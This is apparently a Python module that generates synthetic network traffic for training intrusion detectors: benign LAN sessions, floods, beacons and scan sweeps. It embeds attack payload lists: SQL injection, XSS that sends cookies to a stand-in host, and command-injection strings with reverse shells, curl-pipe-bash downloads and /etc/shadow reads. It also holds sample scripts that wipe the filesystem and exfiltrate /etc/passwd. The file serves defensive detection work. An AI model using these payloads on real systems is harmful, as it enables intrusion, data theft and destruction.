"""Synthetic traffic: HTTP payloads, background chatter, floods, beacons, file drops.

Shared by the scenario simulator and the corpus generators so the detectors
are trained on the same traffic families they later see in scenarios.
Every generator takes an explicit ``random.Random`` and never touches global
random state.
"""

from __future__ import annotations

import ipaddress
import random
from urllib.parse import quote

from .packets import ACK, FIN, PSH, SYN, MIN_LENGTH, Packet, Proto

GATEWAY_MAC = "02:00:00:00:00:01"

# Shell scripts modelled on the three samples the engine is meant to collect.
SAMPLE_SCRIPTS = {
    "rm_rf": b"#!/bin/sh\n# cleanup\nrm -rf / --no-preserve-root\n",
    "passwd": b"#!/bin/sh\ncat /etc/passwd > /tmp/.p\nwget -q -O- http://198.51.100.7/u --post-file=/tmp/.p\n",
    "authlog": b"#!/bin/sh\ntail -n 200 /var/log/auth.log\ngrep -i accepted /var/log/auth.log\n",
}


def mac_for(ip: str) -> str:
    """Stable locally administered MAC for an IPv4 host."""
    b = ipaddress.IPv4Address(ip).packed
    return "02:00:" + ":".join(f"{x:02x}" for x in b)


def q(ts: float) -> float:
    """Quantize to the microsecond resolution of capture files."""
    return round(ts, 6)


def tcp(ts, src, dst, sport, dport, payload: bytes = b"", flags=PSH | ACK, eth_src=None, eth_dst=None,
        pad: int = 0) -> Packet:
    return Packet(q(ts), eth_src or mac_for(src), eth_dst or mac_for(dst), src, dst, Proto.TCP, sport, dport,
                  MIN_LENGTH[Proto.TCP] + len(payload) + pad, payload or None, flags)


def udp(ts, src, dst, sport, dport, payload: bytes = b"", eth_src=None, eth_dst=None) -> Packet:
    return Packet(q(ts), eth_src or mac_for(src), eth_dst or mac_for(dst), src, dst, Proto.UDP, sport, dport,
                  MIN_LENGTH[Proto.UDP] + len(payload), payload or None)


def icmp(ts, src, dst, payload: bytes = b"", eth_src=None, eth_dst=None) -> Packet:
    return Packet(q(ts), eth_src or mac_for(src), eth_dst or mac_for(dst), src, dst, Proto.ICMP, 0, 0,
                  MIN_LENGTH[Proto.ICMP] + len(payload), payload or None)


def syn(ts, src, dst, sport, dport) -> Packet:
    return tcp(ts, src, dst, sport, dport, flags=SYN)


# -- HTTP payloads -----------------------------------------------------------

_WORDS = ["hello", "shoes", "laptop", "garden", "coffee", "books", "summer", "blue", "red", "news",
          "weather", "music", "travel", "camera", "phone", "kitchen", "chair", "winter", "sale", "gift",
          "select size", "update profile", "order history", "from paris", "table lamp"]
_USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "curl/7.81.0",
    "python-requests/2.31.0",
    "Wget/1.21.2",
]
_BENIGN_PATHS = ["/", "/index.html", "/about", "/contact", "/products", "/static/css/site.css",
                 "/static/js/app.js", "/images/logo.png", "/blog/2021/spring-sale", "/api/items", "/login",
                 "/search", "/cart", "/help/faq", "/robots.txt"]

SQLI_PAYLOADS = [
    "' OR '1'='1", "1' OR 1=1 -- ", "' UNION SELECT username, password FROM users--",
    "1; DROP TABLE users--", "admin'--", "' AND SLEEP(5)--",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "' UNION ALL SELECT NULL,NULL,@@version--", "1 OR 1=1", "'; EXEC xp_cmdshell('dir')--",
    "1' ORDER BY 3--", "' GROUP BY id HAVING 1=1--", "1' AND BENCHMARK(1000000,MD5(1))--",
    "'; WAITFOR DELAY '0:0:5'--", "' UNION SELECT CONCAT(user,0x3a,password) FROM mysql.user--",
    "1 AND 1=1 UNION SELECT char(65),char(66)", "'; DELETE FROM orders WHERE 1=1--",
    "'; INSERT INTO users VALUES ('x','y')--", "1' UPDATE users SET role='admin' WHERE name='bob'--",
    "' OR 1=1 LIMIT 1 -- -", "\" OR 1=1 --", "1) UNION SELECT table_name FROM information_schema.tables--",
]
XSS_PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=alert(1)>",
    "\"><script>document.write(document.cookie)</script>", "<iframe src=javascript:alert(1)>",
    "<body onload=prompt(1)>", "<a href=\"javascript:confirm(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<img src=x onmouseover=\"window.location='http://evil.example/'+document.cookie\">",
    "<script src=http://evil.example/x.js></script>", "<svg><script>alert(document.domain)</script>",
    "<input onfocus=alert(1) autofocus>", "'\"><img src=1 onerror=prompt(1)>",
    "<scr<script>ipt>alert(1)</script>", "<body background=\"javascript:alert(1)\">",
    "<iframe src=\"vbscript:msgbox(1)\">", "<img src=\"x\" onerror=\"this.innerHTML=document.cookie\">",
]
OSC_PAYLOADS = [
    "; cat /etc/passwd", "| whoami", "&& uname -a", "$(id)", "; ls -la /", "| nc 10.0.0.1 4444 -e /bin/sh",
    "; wget http://198.51.100.7/sh.sh -O /tmp/x; chmod +x /tmp/x; /tmp/x", "127.0.0.1; ping -c 3 10.0.0.1",
    "; curl http://198.51.100.7/x | bash", "; echo pwned > /var/www/html/x.txt", "|| rm -rf /tmp/cache",
    "${IFS}cat${IFS}/etc/shadow", "; nslookup evil.example", "&& ifconfig", "; cat /etc/hosts 2>&1",
    "| /bin/bash -i > /dev/tcp/10.0.0.1/4444 0>&1", "; id; uname -r", "$(wget -q -O- http://x/a)",
]
PAYLOADS = {"SQLI": SQLI_PAYLOADS, "XSS": XSS_PAYLOADS, "OSC": OSC_PAYLOADS}
_INJECT_POINTS = {
    "SQLI": [("GET", "/products", "id"), ("GET", "/search", "q"), ("POST", "/login", "username"),
             ("GET", "/api/items", "sort")],
    "XSS": [("GET", "/search", "q"), ("POST", "/contact", "message"), ("GET", "/blog/comment", "text"),
            ("GET", "/profile", "name")],
    "OSC": [("GET", "/ping", "host"), ("POST", "/tools/lookup", "domain"), ("GET", "/cgi-bin/status", "cmd"),
            ("GET", "/admin/backup", "file")],
}


def _mutate_case(rng: random.Random, s: str) -> str:
    mode = rng.random()
    if mode < 0.4:
        return s
    if mode < 0.6:
        return s.upper()
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def _encode(rng: random.Random, s: str) -> str:
    """URL-encode a value, fully or just its spaces."""
    mode = rng.random()
    if mode < 0.5:
        return quote(s, safe="")
    if mode < 0.8:
        return s.replace(" ", "+" if rng.random() < 0.5 else "%20")
    return quote(s, safe="=,'()")


def _request(rng: random.Random, method: str, path: str, params: dict[str, str], host: str = "shop.local"
             ) -> str:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    ua = rng.choice(_USER_AGENTS)
    if method == "GET":
        target = f"{path}?{query}" if query else path
        return f"GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n"
    return (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(query)}\r\n\r\n{query}")


def benign_request(rng: random.Random) -> str:
    path = rng.choice(_BENIGN_PATHS)
    params: dict[str, str] = {}
    method = "GET"
    if path == "/search":
        params["q"] = _encode(rng, rng.choice(_WORDS))
    elif path in ("/products", "/api/items"):
        params["id"] = str(rng.randint(1, 5000))
        if rng.random() < 0.5:
            params["page"] = str(rng.randint(1, 40))
    elif path == "/login":
        method = "POST"
        params = {"username": rng.choice(["alice", "bob", "carol", "dave"]), "password": f"pw{rng.randint(0, 9999)}"}
    elif path == "/contact":
        method = "POST" if rng.random() < 0.7 else "GET"
        params = {"name": rng.choice(["Ann", "Raj", "Li"]),
                  "message": _encode(rng, " ".join(rng.choice(_WORDS) for _ in range(rng.randint(2, 8))))}
    return _request(rng, method, path, params)


def attack_request(rng: random.Random, attack: str) -> str:
    method, path, param = rng.choice(_INJECT_POINTS[attack])
    payload = _mutate_case(rng, rng.choice(PAYLOADS[attack]))
    prefix = rng.choice(["", "1", "test", "127.0.0.1", "abc"]) if attack == "OSC" else rng.choice(["", "1", "a"])
    params = {param: _encode(rng, prefix + payload)}
    if rng.random() < 0.3:
        params["page"] = str(rng.randint(1, 9))
    return _request(rng, method, path, params)


def http_packet(ts: float, src: str, dst: str, sport: int, raw: str, dport: int = 80) -> Packet:
    return tcp(ts, src, dst, sport, dport, raw.encode("latin-1"))


# -- background LAN traffic --------------------------------------------------


class Background:
    """Benign chatter between ordinary hosts: web, DNS, ping, SSH, NTP."""

    def __init__(self, hosts: list[str], servers: dict[str, str], rng: random.Random):
        self.hosts = hosts
        self.servers = servers
        self.rng = rng

    def session(self, t: float) -> list[Packet]:
        """One benign exchange starting at ``t``; returns its packets in time order."""
        rng = self.rng
        client = rng.choice(self.hosts)
        kind = rng.choices(["web", "dns", "ping", "ssh", "ntp", "bulk"], [0.45, 0.25, 0.08, 0.1, 0.05, 0.07])[0]
        sport = rng.randint(32768, 60999)
        out: list[Packet] = []
        if kind == "web":
            srv = self.servers["web"]
            out.append(tcp(t, client, srv, sport, 80, flags=SYN))
            t += rng.uniform(0.001, 0.05)
            for _ in range(rng.randint(1, 4)):
                raw = benign_request(rng)
                out.append(http_packet(t, client, srv, sport, raw))
                t += rng.uniform(0.01, 0.2)
                out.append(tcp(t, srv, client, 80, sport, pad=rng.randint(200, 1400)))
                t += rng.uniform(0.05, 3.0)
            out.append(tcp(t, client, srv, sport, 80, flags=FIN | ACK))
        elif kind == "dns":
            srv = self.servers["dns"]
            name = rng.choice(_WORDS).replace(" ", "-") + ".example"
            out.append(udp(t, client, srv, sport, 53, b"\x12\x34\x01\x00" + name.encode()))
            out.append(udp(t + rng.uniform(0.001, 0.03), srv, client, 53, sport, b"\x12\x34\x81\x80" + name.encode() * 2))
        elif kind == "ping":
            dst = rng.choice(self.hosts + [self.servers["web"]])
            for k in range(rng.randint(1, 4)):
                out.append(icmp(t + k, client, dst, b"\x00" * 56))
        elif kind == "ssh":
            srv = self.servers["ssh"]
            out.append(tcp(t, client, srv, sport, 22, flags=SYN))
            for _ in range(rng.randint(3, 25)):
                t += rng.uniform(0.05, 4.0)
                if rng.random() < 0.5:
                    out.append(tcp(t, client, srv, sport, 22, pad=rng.randint(40, 200)))
                else:
                    out.append(tcp(t, srv, client, 22, sport, pad=rng.randint(40, 600)))
            out.append(tcp(t + 0.1, client, srv, sport, 22, flags=FIN | ACK))
        elif kind == "ntp":
            out.append(udp(t, client, self.servers["ntp"], 123, 123, b"\x23" + b"\x00" * 47))
        else:
            srv = self.servers["files"]
            out.append(tcp(t, client, srv, sport, 445, flags=SYN))
            for _ in range(rng.randint(10, 60)):
                t += rng.uniform(0.001, 0.05)
                out.append(tcp(t, srv, client, 445, sport, pad=rng.randint(900, 1400)))
            out.append(tcp(t + 0.01, client, srv, sport, 445, flags=FIN | ACK))
        return out


def default_lan(net: str = "172.26.233.0/24", reserved: set[str] = frozenset()) -> tuple[list[str], dict]:
    """Ordinary hosts and servers on the VLAN, avoiding reserved addresses."""
    base = ipaddress.IPv4Network(net)
    free = [str(h) for h in base.hosts() if str(h) not in reserved]
    hosts = free[9:9 + 24]
    servers = {"web": free[1], "dns": free[2], "ssh": free[3], "ntp": free[4], "files": free[5]}
    return hosts, servers


# -- flood, beacon, scan -----------------------------------------------------


def flood(rng: random.Random, t0: float, target: str, port: int, count: int, interval: float,
          proto: Proto = Proto.UDP) -> list[Packet]:
    """Spoofed-source flood entering through the gateway."""
    out = []
    for k in range(count):
        src = f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        sport = rng.randint(1024, 65535)
        ts = t0 + k * interval
        if proto == Proto.TCP:
            out.append(tcp(ts, src, target, sport, port, flags=SYN, eth_src=GATEWAY_MAC))
        else:
            out.append(udp(ts, src, target, sport, port, b"\x00" * rng.choice((18, 26, 64)), eth_src=GATEWAY_MAC))
    return out


def beacon(t0: float, src: str, c2: str, c2_port: int, sport: int, period: float, size: int, count: int
           ) -> list[Packet]:
    """Fixed-period, fixed-size check-ins over one long-lived connection."""
    pad = max(0, size - MIN_LENGTH[Proto.TCP])
    return [tcp(t0 + k * period, src, c2, sport, c2_port, pad=pad, eth_dst=GATEWAY_MAC) for k in range(count)]


def scan_sweep(t0: float, src: str, targets: list[str], ports: list[int], rate: float, sport: int = 40000
               ) -> list[Packet]:
    """SYN sweep: ``rate`` seconds per host, ports spread evenly inside each host slot."""
    out = []
    step = rate / max(1, len(ports))
    for h, dst in enumerate(targets):
        for k, port in enumerate(ports):
            out.append(syn(t0 + h * rate + k * step, src, dst, sport, port))
    return out
